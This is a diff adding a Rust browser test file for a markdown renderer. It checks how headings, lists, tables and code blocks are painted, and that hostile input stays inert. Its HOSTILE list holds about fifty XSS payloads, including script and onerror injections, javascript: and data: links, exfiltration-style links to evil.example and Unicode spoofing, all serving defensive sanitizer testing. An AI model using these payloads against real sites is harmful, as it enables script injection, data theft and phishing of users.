@@ -1,0 +1,274 @@
+//! What documents become on the page, and what hostile ones do not.
+#![cfg(target_arch = "wasm32")]
+
+use lineup::browser::paint::{DocumentView, Labels};
+use wasm_bindgen_test::{wasm_bindgen_test, wasm_bindgen_test_configure};
+use web_sys::Element;
+
+wasm_bindgen_test_configure!(run_in_browser);
+
+fn labels() -> Labels {
+    Labels {
+        copy: "Copy".into(),
+        copied: "Copied".into(),
+        code: "code".into(),
+        image: "Picture:".into(),
+        done: "done".into(),
+        not_done: "not done".into(),
+        continued: "continued".into(),
+    }
+}
+
+struct Page {
+    root: Element,
+    view: DocumentView,
+}
+
+impl Page {
+    fn new() -> Self {
+        let document = web_sys::window().and_then(|window| window.document()).expect("a page");
+        let root = document.create_element("div").expect("an element");
+        document.body().expect("a body").append_child(&root).expect("appended");
+        let view = DocumentView::new(root.clone(), labels(), |_| {}).expect("a view");
+        Self { root, view }
+    }
+
+    /// The text as it would stream, character by character.
+    fn streamed(markdown: &str) -> Self {
+        let page = Self::new();
+        for c in markdown.chars() {
+            page.view.push(c.encode_utf8(&mut [0; 4]));
+            page.view.flush();
+        }
+        page.view.finish();
+        page.view.flush();
+        page
+    }
+
+    fn at_once(markdown: &str) -> Self {
+        let page = Self::new();
+        page.view.push(markdown);
+        page.view.finish();
+        page.view.flush();
+        page
+    }
+
+    fn all(&self, selector: &str) -> Vec<Element> {
+        use wasm_bindgen::JsCast;
+        let found = self.root.query_selector_all(selector).expect("a selector");
+        (0..found.length()).filter_map(|index| found.item(index)?.dyn_into().ok()).collect()
+    }
+
+    fn texts(&self, selector: &str) -> Vec<String> {
+        self.all(selector).iter().map(|element| element.text_content().unwrap_or_default()).collect()
+    }
+
+    /// What is on the page, to be compared and read.
+    fn outline(&self) -> String {
+        let mut out = String::new();
+        outline(&self.root, &mut out);
+        out
+    }
+}
+
+fn outline(node: &web_sys::Node, out: &mut String) {
+    use wasm_bindgen::JsCast;
+    let Some(element) = node.dyn_ref::<Element>() else {
+        out.push_str(&node.text_content().unwrap_or_default());
+        return;
+    };
+    let attributes: Vec<_> = element
+        .get_attribute_names()
+        .iter()
+        .filter_map(|name| name.as_string())
+        .map(|name| format!(" {name}={}", element.get_attribute(&name).unwrap_or_default()))
+        .collect();
+    out.push_str(&format!("<{}{}>", element.tag_name(), attributes.concat()));
+    let children = element.child_nodes();
+    (0..children.length()).filter_map(|index| children.item(index)).for_each(|child| outline(&child, out));
+    out.push_str("</>");
+}
+
+impl Drop for Page {
+    fn drop(&mut self) {
+        self.root.remove();
+    }
+}
+
+#[wasm_bindgen_test]
+fn each_kind_has_its_element() {
+    let page = Page::streamed(
+        "# Title\n\nText with *em*, **strong**, ~~gone~~, `code` and [a link](https://example.com/x \"t\").\n\n> quote\n\n1. one\n2. two\n   - [x] done\n   - [ ] open\n\n---\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n\n```rust\nfn main() {}\n```\n\n![a cat](https://example.com/cat.png)\n",
+    );
+    for (selector, texts) in [
+        ("h3.heading-1", vec!["Title"]),
+        ("p > em", vec!["em"]),
+        ("p > strong", vec!["strong"]),
+        ("p > s", vec!["gone"]),
+        ("p > code", vec!["code"]),
+        ("blockquote > p", vec!["quote"]),
+        (".list > ol > li > p", vec!["one", "two"]),
+        ("li.task p", vec!["done", "open"]),
+        ("table > thead > tr > th", vec!["a", "b"]),
+        ("table > tbody > tr > td.cell-right", vec!["1"]),
+        (".code-block .code-lang", vec!["rust"]),
+        (".code-block pre > code", vec!["fn main() {}\n"]),
+        (".code-block button", vec!["Copy"]),
+        (".image-chip-name", vec!["a cat"]),
+    ] {
+        assert_eq!(page.texts(selector), texts, "{selector} in {}", page.outline());
+    }
+    assert_eq!(page.all("img").len(), 0, "no picture is fetched");
+    let link = &page.all("p > a")[0];
+    for (name, value) in [
+        ("href", "https://example.com/x"),
+        ("rel", "noopener noreferrer"),
+        ("target", "_blank"),
+        ("data-host", "example.com"),
+        ("title", "t\nhttps://example.com/x"),
+    ] {
+        assert_eq!(link.get_attribute(name).as_deref(), Some(value), "{name}");
+    }
+}
+
+#[wasm_bindgen_test]
+fn a_streamed_document_is_the_same_page_as_a_whole_one() {
+    for markdown in [
+        "Title\n===\n\ntext\n\n- a\n- b\n\n  c\n- d\n",
+        "| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n\nafter",
+        "- a\n  ```rust\n  let x = 1;\n\n  let y = 2;\n  ```\n- b\n",
+        "see [late]\n\n- item\n\n[late]: https://example.com\n",
+        "한국어 **굵게**\n\n> 인용\n> 둘째\n",
+    ] {
+        let (mut streamed, whole) = (Page::streamed(markdown), Page::at_once(markdown));
+        streamed.root.normalize();
+        whole.root.normalize();
+        assert_eq!(streamed.outline(), whole.outline(), "{markdown}");
+        streamed.view.reset();
+        assert_eq!(streamed.texts(".doc-part"), [""]);
+        streamed = Page::new();
+        streamed.view.show("a");
+        streamed.view.show("ab");
+        streamed.view.flush();
+        assert_eq!(streamed.texts("p"), ["ab"]);
+        streamed.view.show("c");
+        streamed.view.flush();
+        assert_eq!(streamed.texts("p"), ["c"], "a shorter text is another one");
+    }
+}
+
+#[wasm_bindgen_test]
+fn a_long_list_goes_on_with_the_right_number() {
+    let list: String = (1..=120).map(|n| format!("{n}. item {n}\n")).collect();
+    let page = Page::streamed(&list);
+    let starts: Vec<_> = page.all(".list > ol").iter().map(|list| list.get_attribute("start")).collect();
+    assert_eq!(starts, [None, Some("51".into()), Some("101".into())]);
+    assert_eq!(page.all("li").len(), 120);
+}
+
+#[wasm_bindgen_test]
+fn a_long_table_keeps_its_columns() {
+    let rows: String = (1..=120).map(|n| format!("| {n} | text |\n")).collect();
+    let page = Page::at_once(&format!("| number | word |\n|---|---|\n{rows}"));
+    let tables = page.all("table");
+    assert_eq!(tables.len(), 3);
+    assert_eq!(page.all("tbody > tr").len(), 120);
+    let left_edges: Vec<_> = tables
+        .iter()
+        .filter_map(|table| table.query_selector("td:nth-child(2)").ok().flatten())
+        .map(|cell| cell.get_bounding_client_rect().left())
+        .collect();
+    assert!(left_edges.iter().all(|left| (left - left_edges[0]).abs() < 1.5), "{left_edges:?}");
+}
+
+/// Everything that may ever come out of a document.
+const ELEMENTS: &str = "DIV P H3 H4 H5 H6 BLOCKQUOTE UL OL LI TABLE THEAD TBODY TR TH TD COLGROUP COL HR BR EM STRONG S CODE PRE A SPAN SUP BUTTON \
+     math merror mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow ms mspace msqrt mstyle msub msubsup msup mtable mtd \
+     mtext mtr munder munderover";
+
+const ATTRIBUTES: &str = "aria-label class data-host href rel role scope start tabindex target title type";
+
+const HOSTILE: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<script src=//evil.example></script>",
+    "text <script>alert(1)</script> text",
+    "<img src=x onerror=alert(1)>",
+    "text <img src=x onerror=alert(1)> text",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<object data=x></object><embed src=x>",
+    "<form action=//evil.example><input name=q autofocus onfocus=alert(1)></form>",
+    "<style>@import '//evil.example';</style>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<body onload=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<details open ontoggle=alert(1)>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](  javascript:alert(1))",
+    "[x](java&#x0A;script:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:x) [y](file:///etc/passwd) [z](blob:https://x/y)",
+    "[x](//evil.example) [y](/path) [z](#hash) [w](\\\\evil.example)",
+    "[x](https://bank.example@evil.example) [y](https://evil.example\\@bank.example)",
+    "<javascript:alert(1)> <data:text/html,x>",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "![x](javascript:alert(1)) ![y](https://evil.example/?q=secret) ![z](data:image/svg+xml,<svg onload=alert(1)>)",
+    "![x\" onerror=\"alert(1)](https://evil.example/a.png \"t\\\" onload=\\\"alert(1)\")",
+    "[x](https://example.com \"t\\\" onmouseover=\\\"alert(1)\")",
+    "[x](https://example.com/\"onmouseover=\"alert(1))",
+    "```\"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```",
+    "`</code><script>alert(1)</script>`",
+    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>x</script> | [x](javascript:x) |",
+    "\\(\\text{<img src=x onerror=alert(1)>}\\) $\\href{javascript:alert(1)}{x}$ $\\unicode{x3C}$",
+    "\\[\\style{position:fixed}{x}\\class{page}{y}\\]",
+    "[^1]: <script>alert(1)</script>\n\n[^1]",
+    "- [x] <img src=x onerror=alert(1)>\n- [ ] [a](javascript:x)",
+    "# <img src=x onerror=alert(1)>\n\n[x](javascript:x)\n===",
+    "<div style=\"position:fixed;inset:0\">overlay</div>",
+    "pay\u{202E}lap.com [pay\u{200B}pal](https://evil.example) [\u{202E}moc.elgoog](https://evil.example)",
+];
+
+#[wasm_bindgen_test]
+fn nothing_hostile_becomes_more_than_text() {
+    let elements: Vec<_> = ELEMENTS.split_whitespace().collect();
+    let attributes: Vec<_> = ATTRIBUTES.split_whitespace().collect();
+    assert!(HOSTILE.len() >= 40);
+    for markdown in HOSTILE {
+        for page in [Page::streamed(markdown), Page::at_once(markdown)] {
+            for element in page.all("*") {
+                assert!(elements.contains(&element.tag_name().as_str()), "<{}> from {markdown}: {}", element.tag_name(), page.outline());
+                for name in element.get_attribute_names().iter().filter_map(|name| name.as_string()) {
+                    assert!(attributes.contains(&name.as_str()), "{name} from {markdown}: {}", page.outline());
+                }
+                if let Some(href) = element.get_attribute("href") {
+                    let allowed = ["https://", "http://", "mailto:"].iter().any(|scheme| href.starts_with(scheme));
+                    assert!(allowed && !href.contains('@') || href.starts_with("mailto:"), "{href} from {markdown}");
+                    assert_eq!(element.get_attribute("rel").as_deref(), Some("noopener noreferrer"), "{markdown}");
+                }
+            }
+            let text = page.root.text_content().unwrap_or_default();
+            assert!(!text.contains(['\u{202E}', '\u{200B}']), "{markdown}");
+        }
+    }
+}
+
+
+#[wasm_bindgen_test]
+fn a_formula_shows_its_source_until_it_is_rendered() {
+    let page = Page::at_once("so $x^2$ and \\[\ny\n+ z\n\\]\n");
+    assert_eq!(page.texts(".math > code"), ["x^2", "y\n+ z"]);
+    assert_eq!(page.texts(".math-block > code"), ["y\n+ z"]);
+}
